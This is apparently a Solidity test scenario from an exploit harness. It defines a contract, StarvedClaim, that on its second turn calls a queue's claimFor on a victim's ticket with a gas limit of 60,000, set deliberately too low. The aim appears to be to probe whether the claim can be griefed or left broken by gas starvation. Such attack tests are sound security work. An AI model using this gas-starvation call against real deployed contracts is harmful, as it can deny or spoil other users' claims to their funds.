// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title A claim for another with too little gas
/// @notice Calls the claim of a victim that takes some gas to be paid, with just not enough of it.
contract StarvedClaim is Exploit {
    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number != 2) return;
        uint256[] memory tickets = new uint256[](1);
        // the first of the first batch
        tickets[0] = 1 << 64;
        queue.claimFor{gas: 60_000}(tickets);
    }
}
